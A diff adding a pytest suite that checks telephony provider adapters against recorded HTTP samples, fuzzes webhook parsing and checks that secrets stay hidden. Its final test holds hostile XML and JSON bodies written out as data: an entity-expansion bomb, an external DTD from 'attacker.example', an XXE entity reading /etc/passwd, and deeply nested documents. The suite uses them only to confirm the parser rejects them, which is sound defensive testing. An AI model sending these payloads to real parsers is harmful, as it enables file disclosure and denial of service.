@@ -1,0 +1,433 @@
+"""What every provider must keep, found by its folder: this file is not edited for a new one.
+
+Samples lie beside the code, `samples/<kind>/<name>.http` with its meaning in `<name>.json`:
+
+    webhooks/                  the raw request, its path below the account's hook address, received at 1700000000.
+        {"events": [...], "reply": {"status", "body", "content_type"}, "question": null | {...},
+         "answers": [{"answer": {...}, "reply": {...}}, ...] (optional: what `write_answer` makes of the question)}
+        or {"raises": "Unreadable"}
+    operations/<operation>/    the raw request that must be sent, a line `---`, the raw response; repeated where an
+                               operation sends several. Required settings are NAME-SECRET, addresses among them
+                               https://provider.example/<name>; others have their defaults.
+        {"order": {...} | "call": {...} | nothing, and "returns" | "events" | "raises": {"error", "code", "words"}}
+
+Raw HTTP has LF or CRLF line ends; one line end at the end of the file is not part of the body. Requests are compared
+as parsed; of their headers, Host, Authorization and the media type are, where the sample has them. `at` of an
+Accepted is not compared. "region" in the .json is the account's country, else IL.
+"""
+
+import json
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import MISSING, dataclass, fields
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qsl
+
+import httpx
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot import providers
+from bot.errors import Ambiguous, ProviderError, Refused, Unavailable, Unreadable, Unsupported
+from bot.events import Accepted, AnyEvent, Call
+from bot.provider import ORDER_BASICS, Answer, CallOrder, Provider, Question, Reply, RepPhone, Request, operations
+from bot.providers import NAMES, provider_class
+
+FOLDER = Path(providers.__file__).parent
+KINDS = [name for name in NAMES if (FOLDER / name / "__init__.py").exists()]
+DIALS = frozenset({"place_call"})
+RECEIVED_AT = 1_700_000_000.0
+
+
+@dataclass(frozen=True)
+class Raw:
+    """One HTTP message, parsed: a request's or a response's first line, headers in lower case, body."""
+
+    start: tuple[str, ...]
+    headers: dict[str, str]
+    body: bytes
+
+    @property
+    def target(self) -> tuple[str, list[tuple[str, str]]]:
+        path, _, query = self.start[1].partition("?")
+        return path, parse_qsl(query, keep_blank_values=True)
+
+
+def raw(text: bytes) -> Raw:
+    head, gap, body = text.replace(b"\r\n", b"\n").partition(b"\n\n")
+    start, *lines = head.decode().strip().split("\n")
+    headers = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
+    assert gap or not body, "an HTTP message has an empty line after its headers"
+    return Raw(tuple(start.split(" ", 2)), headers, body.removesuffix(b"\n"))
+
+
+def sample_files(kind: str, under: str) -> list[Path]:
+    return sorted((FOLDER / kind / "samples" / under).glob("*.http"))
+
+
+def webhook_samples() -> Iterator[Any]:
+    for kind in KINDS:
+        for file in sample_files(kind, "webhooks"):
+            yield pytest.param(kind, file, id=f"{kind}-{file.stem}")
+
+
+def operation_samples() -> Iterator[Any]:
+    for kind in KINDS:
+        for name in operations():
+            for file in sample_files(kind, f"operations/{name}"):
+                yield pytest.param(kind, name, file, id=f"{kind}-{name}-{file.stem}")
+
+
+def meaning(file: Path) -> dict[str, Any]:
+    told: dict[str, Any] = json.loads(file.with_suffix(".json").read_text())
+    return told
+
+
+def configured(kind: str, answer: Callable[[httpx.Request], httpx.Response], region: str = "IL") -> Provider:
+    cls = provider_class(kind)
+    values = {
+        setting.name: setting.default
+        if setting.default is not None
+        else f"https://provider.example/{setting.name}"
+        if setting.name.endswith("url")
+        else f"{setting.name.upper()}-SECRET"
+        for setting in cls.settings
+    }
+    http = httpx.AsyncClient(transport=httpx.MockTransport(answer))
+    provider = cls(kind, values, http, region)
+    if hasattr(provider, "clock"):
+        provider.clock = lambda: RECEIVED_AT
+    return provider
+
+
+def offline(request: httpx.Request) -> httpx.Response:
+    raise AssertionError("nothing may be sent")
+
+
+def call_order(told: dict[str, Any]) -> CallOrder:
+    return msgspec.convert({"call_id": "call-1", **told}, CallOrder)
+
+
+def arguments(told: dict[str, Any]) -> tuple[Any, ...]:
+    if "order" in told:
+        return (call_order(told["order"]),)
+    if "call" in told:
+        return (msgspec.convert({"id": "call-1", "account": "sample", **told["call"]}, Call),)
+    return ()
+
+
+def event(told: dict[str, Any]) -> AnyEvent:
+    converted: AnyEvent = msgspec.convert({"at": 0, **told}, AnyEvent)
+    return converted
+
+
+def without_time(returned: object) -> object:
+    return msgspec.structs.replace(returned, at=0) if isinstance(returned, Accepted) else returned
+
+
+def same_reply(reply: Reply, told: dict[str, Any]) -> bool:
+    return {"status": reply.status, "body": reply.body.decode(), "content_type": reply.content_type} == told
+
+
+def body_parts(content_type: str, body: bytes) -> object:
+    if "json" in content_type:
+        return json.loads(body)
+    if "urlencoded" in content_type:
+        return sorted(parse_qsl(body.decode(), keep_blank_values=True))
+    return body.strip()
+
+
+def conversation(file: Path) -> list[tuple[Raw, Raw]]:
+    blocks = [raw(block) for block in file.read_bytes().replace(b"\r\n", b"\n").split(b"\n---\n")]
+    assert len(blocks) % 2 == 0, "each request has its response"
+    return list(zip(blocks[::2], blocks[1::2], strict=True))
+
+
+def assert_same_request(sent: httpx.Request, expected: Raw) -> None:
+    path, query = expected.target
+    assert (sent.method, sent.url.path) == (expected.start[0], path)
+    assert sorted(sent.url.params.multi_items()) == sorted(query)
+    for header in ("host", "authorization"):
+        if header in expected.headers:
+            assert sent.headers[header] == expected.headers[header]
+    media_type = expected.headers.get("content-type", "")
+    if media_type:
+        assert sent.headers["content-type"].partition(";")[0] == media_type.partition(";")[0]
+    media_type = media_type or sent.headers.get("content-type", "")
+    assert body_parts(media_type, sent.content) == body_parts(media_type, expected.body)
+
+
+def assert_no_secret(error: BaseException) -> None:
+    """Neither in the sentence nor in what a traceback in the log would show below it."""
+    told: BaseException | None = error
+    while told is not None:
+        assert "-SECRET" not in str(told)
+        told = told.__cause__ or told.__context__
+
+
+def successful(kind: str, name: str) -> list[Path]:
+    return [file for file in sample_files(kind, f"operations/{name}") if "raises" not in meaning(file)]
+
+
+def test_every_folder_is_named() -> None:
+    folders = {file.parent.name for file in FOLDER.glob("*/__init__.py")}
+    assert folders == set(KINDS)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_every_sample_has_its_meaning_beside_it(kind: str) -> None:
+    files = [file for file in (FOLDER / kind / "samples").rglob("*") if file.is_file()]
+    named = {file.with_suffix("") for file in files}
+    assert set(files) == {name.with_suffix(suffix) for name in named for suffix in (".http", ".json")}
+    places = {file.parent.relative_to(FOLDER / kind / "samples").as_posix() for file in files}
+    assert places <= {"webhooks", *(f"operations/{name}" for name in operations())}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_no_secret_is_shown(kind: str) -> None:
+    provider = configured(kind, offline)
+    assert "SECRET" not in repr(provider)
+    assert "SECRET" not in str(provider)
+    assert any(setting.secret for setting in provider.settings)
+
+
+@pytest.mark.parametrize(("kind", "file"), list(webhook_samples()))
+def test_webhook_reads_as_written(kind: str, file: Path) -> None:
+    told = meaning(file)
+    provider = configured(kind, offline, told.get("region", "IL"))
+    request = webhook_request(raw(file.read_bytes()))
+    if "raises" in told:
+        assert told["raises"] == "Unreadable"
+        with pytest.raises(Unreadable) as caught:
+            provider.read_webhook(request)
+        assert str(caught.value).endswith(".")
+        assert_no_secret(caught.value)
+        return
+    webhook = provider.read_webhook(request)
+    assert list(webhook.events) == [event(one) for one in told["events"]]
+    assert all(one.ref for one in webhook.events)
+    assert webhook.question == (msgspec.convert(told["question"], Question) if told.get("question") else None)
+    assert same_reply(webhook.reply, told["reply"])
+    for pair in told.get("answers", []):
+        assert webhook.question is not None
+        assert same_reply(provider.write_answer(webhook.question, Answer(**pair["answer"])), pair["reply"])
+
+
+def webhook_request(message: Raw) -> Request:
+    path, query = message.target
+    return Request(message.start[0], path.removeprefix("/"), tuple(query), message.headers, message.body, RECEIVED_AT)
+
+
+@pytest.mark.parametrize(("kind", "name", "file"), list(operation_samples()))
+async def test_operation_speaks_as_written(kind: str, name: str, file: Path) -> None:
+    told = meaning(file)
+    exchanges = conversation(file)
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        expected, response = exchanges.pop(0)
+        assert_same_request(request, expected)
+        return httpx.Response(int(response.start[1]), headers=response.headers, content=response.body)
+
+    act = getattr(configured(kind, answer, told.get("region", "IL")), name)
+    if "raises" in told:
+        expected = told["raises"]
+        with pytest.raises(ProviderError) as caught:
+            await act(*arguments(told))
+        assert type(caught.value).__name__ == expected["error"]
+        if isinstance(caught.value, Refused):
+            assert caught.value.code == expected.get("code", "")
+            assert caught.value.words == expected["words"]
+        assert_no_secret(caught.value)
+    elif "events" in told:
+        assert list(await act(*arguments(told))) == [event(one) for one in told["events"]]
+    else:
+        returns = event(told["returns"]) if isinstance(told["returns"], dict) else told["returns"]
+        assert without_time(await act(*arguments(told))) == without_time(returns)
+    assert not exchanges, "all requests of the sample were sent"
+
+
+@pytest.mark.parametrize("name", operations())
+@pytest.mark.parametrize("kind", KINDS)
+async def test_every_operation_is_sampled_or_refused(kind: str, name: str) -> None:
+    provider = configured(kind, offline)
+    if provider.can(name):
+        assert successful(kind, name)
+        return
+    with pytest.raises(Unsupported) as caught:
+        await getattr(provider, name)()
+    assert str(caught.value) == f"{provider.title} cannot {operations()[name]}."
+    assert not sample_files(kind, f"operations/{name}")
+
+
+OPTIONS = {option.name: option for option in fields(CallOrder) if option.name not in ORDER_BASICS}
+SOMETHING: dict[object, object] = {str: "something", bool: True, int: 30, dict: {"name": "value"}}
+
+
+@pytest.mark.parametrize("option", OPTIONS)
+@pytest.mark.parametrize("kind", KINDS)
+async def test_every_order_option_is_sampled_or_refused(kind: str, option: str) -> None:
+    provider = configured(kind, offline)
+    assert provider.order_options <= OPTIONS.keys()
+    orders = [meaning(file)["order"] for file in successful(kind, "place_call")]
+    if option in provider.order_options:
+        assert any(option in order for order in orders)
+        return
+    default = OPTIONS[option].default
+    told = {} if default is MISSING else 0 if default is None else default
+    order = {key: value for key, value in orders[0].items() if key in ORDER_BASICS}
+    with pytest.raises(Unsupported, match=option.replace("_", " ")):
+        await provider.place_call(call_order({**order, option: SOMETHING[type(told)]}))
+
+
+@pytest.mark.parametrize("phone", ["number", "extension", "login", "trunk"])
+@pytest.mark.parametrize("kind", KINDS)
+async def test_every_kind_of_rep_phone_is_sampled_or_refused(kind: str, phone: Any) -> None:
+    provider = configured(kind, offline)
+    orders = [meaning(file)["order"] for file in successful(kind, "place_call")]
+    if phone in provider.rep_phones:
+        assert any(order["rep"]["kind"] == phone for order in orders)
+        return
+    with pytest.raises(Unsupported, match=f"{provider.title} cannot .*{phone}"):
+        await provider.place_call(CallOrder(call_id="call-1", rep=RepPhone(phone, "1"), number=orders[0]["number"]))
+
+
+def sampled_operations() -> Iterator[Any]:
+    for kind in KINDS:
+        for name in operations():
+            if provider_class(kind).can(name):
+                yield pytest.param(kind, name, id=f"{kind}-{name}")
+
+
+HTML = "<!DOCTYPE html><html><body><h1>It works!</h1></body></html>"
+NOT_REACHED = (httpx.ConnectError, httpx.ConnectTimeout, httpx.PoolTimeout)
+UNCLEAR = (httpx.ReadTimeout, httpx.WriteTimeout, httpx.ReadError, httpx.RemoteProtocolError)
+
+
+async def failure(kind: str, name: str, answer: Callable[[], httpx.Response]) -> ProviderError:
+    """What the operation raises when the service does this; a dial must not be tried a second time."""
+    told = meaning(successful(kind, name)[0])
+    sent = []
+
+    def respond(request: httpx.Request) -> httpx.Response:
+        sent.append(request)
+        return answer()
+
+    with pytest.raises(ProviderError) as caught:
+        await getattr(configured(kind, respond, told.get("region", "IL")), name)(*arguments(told))
+    assert len(sent) == 1 or name not in DIALS
+    assert str(caught.value).endswith((".", "!"))
+    assert_no_secret(caught.value)
+    return caught.value
+
+
+def raising(error: type[httpx.TransportError]) -> Callable[[], httpx.Response]:
+    def answer() -> httpx.Response:
+        raise error("the line is broken")
+
+    return answer
+
+
+@pytest.mark.parametrize("error", NOT_REACHED)
+@pytest.mark.parametrize(("kind", "name"), list(sampled_operations()))
+async def test_not_reached_is_unavailable(kind: str, name: str, error: type[httpx.TransportError]) -> None:
+    assert type(await failure(kind, name, raising(error))) is Unavailable
+
+
+@pytest.mark.parametrize("error", UNCLEAR)
+@pytest.mark.parametrize(("kind", "name"), list(sampled_operations()))
+async def test_no_answer_to_a_dial_is_ambiguous(kind: str, name: str, error: type[httpx.TransportError]) -> None:
+    raised = await failure(kind, name, raising(error))
+    assert type(raised) is Ambiguous if name in DIALS else isinstance(raised, Unavailable | Ambiguous)
+
+
+@pytest.mark.parametrize("status", [500, 502, 503, 504])
+@pytest.mark.parametrize(("kind", "name"), list(sampled_operations()))
+async def test_an_internal_error_on_a_dial_is_ambiguous(kind: str, name: str, status: int) -> None:
+    raised = await failure(kind, name, lambda: httpx.Response(status, html=HTML))
+    assert type(raised) is Ambiguous if name in DIALS else isinstance(raised, Unavailable | Ambiguous)
+
+
+@pytest.mark.parametrize("content", [HTML, "", "\x00", "[]", "{}", "null", '{"a":', "<a>", "<?xml version='1.0'?><a/>"])
+@pytest.mark.parametrize(("kind", "name"), list(sampled_operations()))
+async def test_an_answer_to_a_dial_in_no_known_form_is_ambiguous(kind: str, name: str, content: str) -> None:
+    raised = await failure(kind, name, lambda: httpx.Response(200, html=content))
+    assert type(raised) is Ambiguous if name in DIALS else not isinstance(raised, Unsupported)
+
+
+def readable(kind: str, request: Request) -> None:
+    provider = configured(kind, offline)
+    try:
+        webhook = provider.read_webhook(request)
+    except Unreadable:
+        return
+    assert all(one.key for one in webhook.events)
+    if webhook.question is not None:
+        provider.write_answer(webhook.question, Answer())
+
+
+def requests(kind: str) -> st.SearchStrategy[Request]:
+    """Anything at all, and samples with something wrong in them."""
+    samples = [webhook_request(raw(file.read_bytes())) for file in sample_files(kind, "webhooks")]
+    paths = st.sampled_from(sorted(provider_class(kind).hook_paths)) | st.text(max_size=8)
+    names = st.sampled_from(sorted({name for one in samples for name, _ in one.query} | {"id"})) | st.text(max_size=8)
+    types = ["application/json", "application/x-www-form-urlencoded", "text/xml", "text/plain", "multipart/form-data"]
+    headers: Sequence[dict[str, str]] = [{}, *({"content-type": media_type} for media_type in types)]
+    anything = st.builds(
+        Request,
+        method=st.sampled_from(["GET", "POST", "PUT"]),
+        path=paths,
+        query=st.lists(st.tuples(names, st.text(max_size=12)), max_size=6).map(tuple),
+        headers=st.sampled_from(headers),
+        body=st.binary(max_size=60) | st.recursive(json_leaves, json_nodes).map(lambda told: json.dumps(told).encode()),
+        received_at=st.just(RECEIVED_AT),
+    )
+    return anything | st.builds(damaged, st.sampled_from(samples), st.integers(0, 4000), st.binary(max_size=4), names)
+
+
+json_leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)
+
+
+def json_nodes(children: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
+    return st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
+
+
+def damaged(request: Request, place: int, splinter: bytes, name: str) -> Request:
+    """A sample with a few bytes of its body replaced, and one value of its query too."""
+    at = place % (len(request.body) + 1)
+    body = request.body[:at] + splinter + request.body[at + len(splinter) :]
+    query = tuple((key, splinter.decode(errors="replace") if key == name else value) for key, value in request.query)
+    return Request(request.method, request.path, query, request.headers, body, request.received_at)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_whatever_comes_is_read_or_unreadable(kind: str) -> None:
+    @given(requests(kind))
+    def check(request: Request) -> None:
+        readable(kind, request)
+
+    check()
+
+
+BOMB = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % (b"" if n == 1 else b"%d" % (n - 1)) * 10) for n in range(1, 10)
+    )
+    + b"]><methodCall><methodName>&lol9;</methodName></methodCall>"
+)
+DTD = b'<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "http://attacker.example/x.dtd"><methodCall/>'
+FILE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><methodCall><methodName>&b;</methodName></methodCall>'
+DEEP = b"<a>" * 200_000
+LONG = b"{" * 200_000
+
+
+@pytest.mark.parametrize("body", [BOMB, DTD, FILE, DEEP, LONG], ids=["bomb", "dtd", "file", "deep xml", "deep json"])
+@pytest.mark.parametrize("media_type", ["text/xml", "application/json", "text/plain"])
+@pytest.mark.parametrize("kind", KINDS)
+def test_hostile_documents_are_unreadable(kind: str, media_type: str, body: bytes) -> None:
+    provider = configured(kind, offline)
+    for path in provider.hook_paths:
+        with pytest.raises(Unreadable):
+            provider.read_webhook(Request("POST", path, (), {"content-type": media_type}, body, RECEIVED_AT))
